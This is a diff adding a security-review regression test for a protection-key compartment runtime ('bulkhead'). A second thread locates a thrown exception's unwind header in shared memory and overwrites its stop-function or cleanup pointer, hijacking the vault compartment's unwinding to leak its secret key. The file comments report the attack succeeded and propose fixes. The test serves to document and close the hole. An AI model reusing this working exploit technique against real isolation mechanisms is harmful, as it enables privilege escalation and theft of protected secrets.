@@ -1,0 +1,182 @@
+// Review 33, attacker model A with a second thread (key-0 loads and
+// stores, no system call of its own beyond the program's). Not the words
+// of the exception's header that review 30b stored into (catchTemp, the
+// destructor: attacks-rev30-landing-pad.cpp) but the generic unwind
+// header that follows them in the same object, libgcc_s's: its private_1
+// word. A cleanup's landing pad (any destructor of a compartment's frame
+// that a throw passes) ends with a call of _Unwind_Resume, which reads
+// private_1 to choose how to go on: 0 for a throw, else the stop function
+// of a forced unwind (_Unwind_ForcedUnwind), which
+// _Unwind_ForcedUnwind_Phase2 calls for the next frame, with private_2 as
+// its argument, with the rights of the frame that resumed. The object is
+// in the shared heap (key-0), found by its exception class word
+// ("GNUCC++\0", private_1 16 bytes above it). Here, as in review 30b, the
+// vault's cleanup waits for the program's acknowledgement on a pipe (any
+// cleanup, or the unwinding itself, is a window for a second thread
+// writing in a loop); the program's second thread stores the address of
+// steal (code of the program's whose address is taken in asm, so no gate
+// wraps it) into private_1 and acknowledges. The vault's _Unwind_Resume
+// calls steal with the vault's rights: it copies the vault's key into the
+// program's buffer, prints it and ends the process. With -DCLEANUP the
+// store goes to the unwind header's exception_cleanup word (8 bytes above
+// the class word), which __cxa_end_catch calls through
+// _Unwind_DeleteException at the end of the vault's catch. The control
+// stores nothing.
+// Neither word is the landing pad or the destructor: a fix of review 30b
+// that checks the landing pad the cleanup phase installs against the
+// copied call-site table, or that calls no header destructor from key-0
+// memory, leaves both open; only taking the whole exception object (or at
+// least its header and unwind header) out of other domains' reach while a
+// compartment throws it closes them.
+//
+// Seen in the guest: ATTACK SUCCEEDED (both).
+//
+// Suggested fix: as for attacks-rev30-landing-pad.cpp, the exception a
+// compartment throws must come from memory the default domain cannot
+// write (__cxa_allocate_exception from a compartment on the thrower's heap
+// or stack ring), or the runtime must check that private_1 is 0 or the
+// stop function of glibc's cancellation (the one forced unwind a
+// compartment's frames see) and that exception_cleanup is libstdc++'s
+// __gxx_exception_cleanup before a compartment's frame resumes or ends a
+// catch (an interposed _Unwind_Resume and __cxa_end_catch; the object's
+// other words stay writable, so the first fix is the one that closes the
+// class).
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread %s -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t | FileCheck %s
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread -DCLEANUP %s -o %t-cleanup
+// RUN: %run %t-cleanup | FileCheck %s
+// CONTROL: header found
+// CONTROL-NEXT: caught in the vault: 4
+// CHECK: header found
+// CHECK-NOT: ATTACK SUCCEEDED
+// CHECK: caught in the vault: 4
+#include <bulkhead.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+BULKHEAD_DATA(vault) int vault_ack_fd;
+
+struct E {
+  int v;
+};
+
+/* A cleanup that waits for the caller's acknowledgement. */
+struct Ack {
+  ~Ack() {
+    char c;
+    if (read(vault_ack_fd, &c, 1) != 1)
+      vault_key[0] = 0;
+  }
+};
+
+__attribute__((noinline)) static void vault_fail(int v) {
+  Ack a;
+  if (v)
+    throw E{v};
+}
+
+extern "C" BULKHEAD_ENTRY(vault) int vault_catch(int fd, int v) {
+  vault_ack_fd = fd;
+  try {
+    vault_fail(v);
+  } catch (E &e) {
+    return e.v + 1;
+  }
+  return 0;
+}
+
+static char stolen[64] = "ATTACK SUCCEEDED: ";
+static const char *volatile from = vault_key; /* key-0 words */
+extern "C" __attribute__((used)) void take(void) {
+  int n = 18;
+  for (int i = 0; i < 31 && from[i]; i++)
+    stolen[n++] = from[i];
+  stolen[n++] = '\n';
+  write(1, stolen, n);
+  _exit(0);
+}
+/* Called as a stop function or a cleanup: realign, then take. */
+__asm__(".text\n"
+        ".globl steal\n"
+        ".type steal, @function\n"
+        "steal:\n"
+        "  andq $-16, %rsp\n"
+        "  call take\n"
+        "  ud2\n"
+        ".size steal, .-steal\n");
+
+static int ack[2];
+static int forge;
+
+extern "C" char __executable_start[], etext[];
+
+/* The header's catchTemp word, once the search phase has set it to a
+ * landing pad (in the executable's code: the vault's catch); the unwind
+ * header's words are above it. */
+static uintptr_t *find_landing_pad(void) {
+  FILE *f = fopen("/proc/self/smaps", "r");
+  char line[512];
+  uintptr_t lo = 0, hi = 0, *found = NULL;
+  int rw = 0, key;
+  while (f && !found && fgets(line, sizeof line, f)) {
+    uintptr_t l, h;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
+      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
+      rw = rw && !strstr(line, "[stack]");
+      continue;
+    }
+    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
+      continue;
+    for (uintptr_t *w = (uintptr_t *)lo + 2; w + 1 <= (uintptr_t *)hi; w++)
+      if (*w == 0x474e5543432b2b00ull && /* "GNUCC++\0" */
+          w[-2] > (uintptr_t)__executable_start && w[-2] < (uintptr_t)etext) {
+        found = w - 2;
+        break;
+      }
+  }
+  if (f)
+    fclose(f);
+  return found;
+}
+
+static void *attacker(void *) {
+  uintptr_t *pad;
+  while (!(pad = find_landing_pad()))
+    usleep(1000);
+  puts("header found");
+  fflush(stdout);
+  if (forge) {
+    uintptr_t p;
+    __asm__("leaq steal(%%rip), %0" : "=r"(p));
+#ifdef CLEANUP
+    pad[3] = p; /* exception_cleanup, 8 bytes above the class word */
+#else
+    pad[4] = p; /* private_1: the stop function, 16 bytes above it */
+    pad[5] = 0; /* private_2: its argument */
+#endif
+  }
+  write(ack[1], "k", 1);
+  return NULL;
+}
+
+int main(int argc, char **argv) {
+  (void)argv;
+  forge = argc < 2;
+  if (pipe(ack))
+    return 1;
+  pthread_t t;
+  pthread_create(&t, NULL, attacker, NULL);
+  int r = vault_catch(ack[0], 3);
+  pthread_join(t, NULL);
+  printf("caught in the vault: %d\n", r);
+  puts("nothing stolen");
+  return 0;
+}
